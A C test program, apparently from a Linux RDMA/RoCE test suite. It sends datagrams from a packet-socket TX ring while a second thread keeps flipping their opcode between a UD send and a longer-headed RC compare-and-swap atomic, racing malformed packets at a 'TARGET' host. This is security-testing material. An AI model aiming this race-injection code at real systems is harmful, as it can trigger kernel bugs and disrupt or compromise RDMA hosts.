// SPDX-License-Identifier: GPL-2.0 OR Linux-OpenIB
/*
 * Sends datagrams to a GSI out of the ring of a packet socket, whose pages are
 * the packets' own, and changes their opcode all the while: to that of an atomic,
 * whose headers are longer by more than an ICRC, and back.
 *
 *	flip SECONDS
 *
 * MAC1, MAC2, ATTACKER and TARGET are as in sender.h; eth0 is that of this
 * network namespace.  Needs two processors.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <time.h>

#include "frame.h"
#include "tap.h"

#define FRAMES		16
#define FRAME_SIZE	2048
#define DATA		(TPACKET2_HDRLEN - sizeof(struct sockaddr_ll))
#define OPCODE		(DATA + ETHERNET_BYTES + 20 + UDP_BYTES)
#define GSI_QKEY	0x80010000

static uint8_t *ring;
static struct path path = { .source_port = 4791 };
static atomic_bool over;

static void run_on(int cpu)
{
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET(cpu, &set);
	sched_setaffinity(0, sizeof(set), &set);
}

static volatile uint8_t *opcode(int i)
{
	return ring + i * FRAME_SIZE + OPCODE;
}

static void *flip(void *arg)
{
	int i;

	(void)arg;
	run_on(1);
	while (!atomic_load_explicit(&over, memory_order_relaxed))
		for (i = 0; i < FRAMES; i++)
			*opcode(i) ^= (UD | SEND_ONLY) ^ (RC | COMPARE_SWAP);
	return NULL;
}

static volatile struct tpacket2_hdr *header(int i)
{
	return (void *)(ring + i * FRAME_SIZE);
}

static void fill(int i)
{
	struct packet p = {
		.opcode = UD | SEND_ONLY,
		.flags = 0x40,
		.pkey = 0xffff,
		.qpn = 1,
		.qkey = GSI_QKEY,
		.src_qpn = 1,
		.length = 256,
	};
	uint8_t body[BTH_BYTES + 512];
	static struct frame frame;

	frame_seal(&frame, &path, body, packet_build(&p, body, 0x5a));
	memcpy(ring + i * FRAME_SIZE + DATA, frame.bytes, frame.length);
	header(i)->tp_len = frame.length;
}

static bool open_ring(int *fd)
{
	struct tpacket_req req = {
		.tp_block_size = FRAMES * FRAME_SIZE,
		.tp_block_nr = 1,
		.tp_frame_size = FRAME_SIZE,
		.tp_frame_nr = FRAMES,
	};
	struct sockaddr_ll to = {
		.sll_family = AF_PACKET,
		.sll_ifindex = if_nametoindex("eth0"),
	};
	int version = TPACKET_V2;

	*fd = socket(AF_PACKET, SOCK_RAW, 0);
	if (setsockopt(*fd, SOL_PACKET, PACKET_VERSION, &version,
		       sizeof(version)) ||
	    setsockopt(*fd, SOL_PACKET, PACKET_TX_RING, &req, sizeof(req)))
		return false;
	ring = mmap(NULL, FRAMES * FRAME_SIZE, PROT_READ | PROT_WRITE,
		    MAP_SHARED, *fd, 0);
	return ring != MAP_FAILED &&
	       !bind(*fd, (struct sockaddr *)&to, sizeof(to));
}

static bool parse_mac(const char *text, uint8_t *mac)
{
	return text && sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac,
			      mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) == 6;
}

static bool addresses(void)
{
	const char *from = getenv("ATTACKER"), *to = getenv("TARGET");

	return parse_mac(getenv("MAC1"), path.source_mac) &&
	       parse_mac(getenv("MAC2"), path.target_mac) && from && to &&
	       inet_pton(AF_INET, from, path.source) == 1 &&
	       inet_pton(AF_INET, to, path.target) == 1;
}

static void send_all(const void *arg)
{
	time_t end = time(NULL) + atoi(arg);
	unsigned long sent = 0;
	pthread_t thread;
	int fd, i;

	REQUIRE(addresses());
	REQUIRE(open_ring(&fd));
	for (i = 0; i < FRAMES; i++)
		fill(i);
	run_on(0);
	REQUIRE(!pthread_create(&thread, NULL, flip, NULL));
	while (time(NULL) < end) {
		for (i = 0; i < FRAMES; i++)
			header(i)->tp_status = TP_STATUS_SEND_REQUEST;
		if (send(fd, NULL, 0, 0) > 0)
			sent += FRAMES;
	}
	atomic_store(&over, true);
	pthread_join(thread, NULL);
	diag("%lu packets", sent);
	CHECK(sent > 1000);
}

COMMAND(flip)
{
	run_test(send_all, argc > 1 ? argv[1] : "10",
		 "packets that change on their way are sent");
	return tests_done();
}
